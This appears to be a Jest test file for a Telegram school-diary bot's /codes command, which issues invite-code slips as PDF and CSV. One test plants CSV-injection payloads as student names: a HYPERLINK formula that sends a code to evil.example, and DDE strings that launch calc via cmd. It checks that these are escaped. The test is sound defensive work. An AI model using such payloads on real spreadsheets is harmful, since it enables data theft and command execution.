/**
 * `/codes 7Б` in the bot: a printable PDF of slips (checked with poppler's pdftotext: Cyrillic
 * text, the codes, the bot's name) and the same as CSV; bootstrap admins (ADMIN_TELEGRAM_IDS) and
 * admins by code; everyone else gets "not available".
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { InviteCode, School, Account, Student } from "../../src/db/models";
import { parseCsv } from "../../src/services/exchange/csv";
import { hashCode, normalizeCode } from "../../src/domain/codes";
import { issueAdminCode } from "../../src/services/codes";
import { clearDb, useTestDb } from "../support/db";
import { startBotHarness, type BotHarness } from "../support/bot-harness";
import type { SentMessage } from "../support/fake-telegram";
import { buttonData, makeSchool, texts, withButtons, type TestSchool } from "./onboarding-support";

useTestDb();

const ADMIN_ID = 990_001;
const NOW = new Date("2026-11-20T09:00:00Z");

function pdfText(bytes: Buffer): string {
  const file = path.join(os.tmpdir(), `slips-${process.pid}-${Date.now()}.pdf`);
  fs.writeFileSync(file, bytes);
  try {
    return execFileSync("pdftotext", ["-layout", file, "-"], { encoding: "utf8" });
  } finally {
    fs.unlinkSync(file);
  }
}

function documents(messages: SentMessage[]) {
  return messages.filter((m) => m.document).map((m) => m.document!);
}

describe("/codes in the bot", () => {
  let harness: BotHarness;
  let school: TestSchool;
  beforeAll(async () => {
    harness = await startBotHarness({ env: { ADMIN_TELEGRAM_IDS: `${ADMIN_ID}, 990002` }, now: NOW });
  });
  afterAll(async () => harness.stop());
  afterEach(() => expect(harness.logs.filter((l) => l.includes("bot update failed"))).toEqual([]));
  beforeEach(async () => {
    await clearDb();
    school = await makeSchool("Школа № 1");
  });

  test("a bootstrap admin gets the slips as PDF and CSV; only hashes are stored", async () => {
    const admin = harness.user({ id: ADMIN_ID });
    const replies = await admin.send("/codes 7б");
    const [pdf, csv] = documents(replies);
    expect(pdf.filename).toBe("codes-7Б.pdf");
    expect(pdf.bytes.subarray(0, 5).toString()).toBe("%PDF-");
    const text = pdfText(pdf.bytes);
    const csvText = csv.bytes.toString("utf8").replace(/^\uFEFF/, "");
    const rows = csvText.trim().split("\r\n").map((line) => line.split(";"));
    expect(rows[0]).toEqual(["класс", "ученик", "код", "действует до"]);
    expect(rows.slice(1).map((r) => r[1])).toEqual(["Иванова Мария Петровна", "Петров Пётр Иванович"]);
    for (const [className, student, code, expires] of rows.slice(1)) {
      expect(code).toMatch(/^[A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{2}$/);
      expect(expires).toBe("20.12.2026");
      // The PDF has the same code, the student, the class, the bot and the instructions, in Cyrillic.
      expect(text).toContain(code);
      expect(text).toContain(`${student}, ${className}`);
      expect(await InviteCode.countDocuments({ codeHash: hashCode(harness.deps.config.codePepper, normalizeCode(code)) })).toBe(1);
    }
    expect(text).toContain("Подключение к «Электронному дневнику»");
    expect(text).toContain("Telegram: @test_diary_bot");
    expect(text).toContain("Откройте в Telegram бота @test_diary_bot");
    expect(text).toContain("Школа № 1");
    expect(texts(replies)).toContain("2 листка");
    const stored = await InviteCode.find({}).lean();
    expect(stored.map((c) => c.role)).toEqual(["guardian", "guardian"]);
    expect(stored.map((c) => c.batch)).toEqual(["7Б", "7Б"]);
    const admin_ = await Account.findOne({ telegramId: ADMIN_ID }).lean();
    expect(stored.map((c) => String(c.issuedBy))).toEqual([String(admin_!._id), String(admin_!._id)]);
    // Masha has one journal guardian: her code names that record; Petya's names none.
    expect(stored.map((c) => String(c.guardianId ?? ""))).toEqual([String(school.annaGuardian), ""]);
    const log = harness.logs.join("\n");
    for (const [, , code] of rows.slice(1)) expect(log).not.toContain(code);
  });

  test("issuing again revokes the earlier unused slips and says so; a used code stays, the old slip is refused", async () => {
    const admin = harness.user({ id: ADMIN_ID });
    const codesOf = (messages: SentMessage[]) =>
      documents(messages)[1].bytes.toString("utf8").replace(/^\uFEFF/, "").trim().split("\r\n").slice(1).map((line) => line.split(";")[2]);
    const first = await admin.send("/codes 7Б");
    expect(texts(first)).not.toContain("Отозван");
    const [mashaOld, petyaOld] = codesOf(first);
    const pepper = harness.deps.config.codePepper;
    const stored = async (code: string) => (await InviteCode.findOne({ codeHash: hashCode(pepper, normalizeCode(code)) }).lean())!;
    await InviteCode.updateOne({ _id: (await stored(mashaOld))._id }, { $set: { usedAt: NOW } });

    const second = await admin.send("/codes 7Б");
    expect(texts(second)).toContain("Раздайте их лично.\nОтозван 1 прежний неиспользованный код этих учеников: листки, напечатанные раньше, больше не действуют.");
    expect((await stored(petyaOld)).revokedAt).toEqual(NOW);
    expect((await stored(mashaOld)).revokedAt).toBeUndefined();
    for (const code of codesOf(second)) expect((await stored(code)).revokedAt).toBeUndefined();
    // The replaced slip does not work any more.
    const parent = harness.user();
    await parent.press(`cs:yes:${school.school._id}`, withButtons(await parent.send("/start")));
    expect(texts(await parent.send(petyaOld))).toContain("Этот код отозван школой");
    // /codes alone tells the admin beforehand.
    expect(texts(await admin.send("/codes"))).toContain("старые листки перестают действовать");
  });

  test("a name written as a formula is plain text in the CSV: the code beside it cannot be sent away", async () => {
    // A parent filled in the journal's form with a formula: opened in Excel, it would send the next cell (the code) to a stranger.
    const formula = '=HYPERLINK("http://evil.example/?c="&C3;"Откройте")';
    await Student.updateOne({ _id: school.petya }, { $set: { fullName: formula } });
    await Student.create({ schoolId: school.school._id, externalId: "s-plus", fullName: "+cmd|' /C calc'!A0", classId: school.classId });
    await Student.create({ schoolId: school.school._id, externalId: "s-at", fullName: "@SUM(1+1)*cmd|' /C calc'!A0", classId: school.classId });
    await Student.create({ schoolId: school.school._id, externalId: "s-minus", fullName: "-2+3", classId: school.classId });
    await Student.create({ schoolId: school.school._id, externalId: "s-sum", fullName: "=1+1", classId: school.classId });
    const admin = harness.user({ id: ADMIN_ID });
    const [, csv] = documents(await admin.send("/codes 7Б"));
    const raw = csv.bytes.toString("utf8");
    const rows = parseCsv(raw, ";");
    const names = rows.slice(1).map((r) => r[1]);
    expect(names).toEqual(expect.arrayContaining([`'${formula}`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'=1+1", "Иванова Мария Петровна"]));
    // No cell of the file starts a formula; the codes themselves are intact.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const row of rows.slice(1)) expect(row[2]).toMatch(/^[A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{2}$/);
  });

  test("an unknown class lists the classes; /codes alone explains itself", async () => {
    const admin = harness.user({ id: ADMIN_ID });
    expect(texts(await admin.send("/codes 12Я"))).toContain("Класс 12Я не найден. Классы: 7Б");
    expect(texts(await admin.send("/codes"))).toContain("/codes 7Б");
  });

  test("with several schools a bootstrap admin chooses the school, remembered for next time", async () => {
    const other = await makeSchool("Школа № 2");
    const admin = harness.user({ id: ADMIN_ID });
    const choose = withButtons(await admin.send("/codes 7Б"));
    expect(buttonData(choose).sort()).toEqual([`cd:s:${school.school._id}:7Б`, `cd:s:${other.school._id}:7Б`].sort());
    const docs = documents(await admin.press(`cd:s:${other.school._id}:7Б`, choose));
    expect(docs).toHaveLength(2);
    expect(await InviteCode.countDocuments({ schoolId: other.school._id })).toBe(2);
    expect(documents(await admin.send("/codes 7Б"))).toHaveLength(2);
    expect(await InviteCode.countDocuments({ schoolId: other.school._id })).toBe(4);
    // /admin shows the tools and lets them switch.
    const [overview] = await admin.send("/admin");
    expect(overview.plain).toContain("Школа: Школа № 2");
    expect(overview.plain).toContain("/paperconsent");
  });

  test("an admin by code: their school only; a forged school button is not available", async () => {
    const { code } = await issueAdminCode({ schoolId: school.school._id, pepper: harness.deps.config.codePepper, now: NOW });
    const staff = harness.user();
    await staff.press(`cs:yes:${school.school._id}`, withButtons(await staff.send("/start")));
    const confirm = withButtons(await staff.send(code));
    expect(confirm.plain).toContain("доступ администратора школы");
    expect(texts(await staff.press(buttonData(confirm)[0], confirm))).toContain("вы администратор школы Школа № 1");
    expect((await Account.findOne({ telegramId: staff.profile.id }).lean())!.roles.map((r) => r.role)).toEqual(["admin"]);
    // Another school appears: this admin still works on their own one only.
    const other = await School.create({ name: "Чужая школа" });
    expect(documents(await staff.send("/codes 7Б"))).toHaveLength(2);

    await staff.press(`cd:s:${other._id}:7Б`);
    expect(staff.callbackAnswers().at(-1)!.text).toContain("Недоступно");
    expect(await InviteCode.countDocuments({ schoolId: other._id })).toBe(0);
  });

  test("a guardian or a stranger: not available, no codes issued", async () => {
    for (const user of [harness.user(), harness.user({ language_code: "en" })]) {
      const reply = texts(await user.send("/codes 7Б"));
      expect(reply).toMatch(/Недоступно|Not available/);
      expect(texts(await user.send("/paperconsent"))).toMatch(/Недоступно|Not available/);
      expect(texts(await user.send("/admin"))).toMatch(/Недоступно|Not available/);
    }
    expect(await InviteCode.countDocuments({})).toBe(0);
  });
});
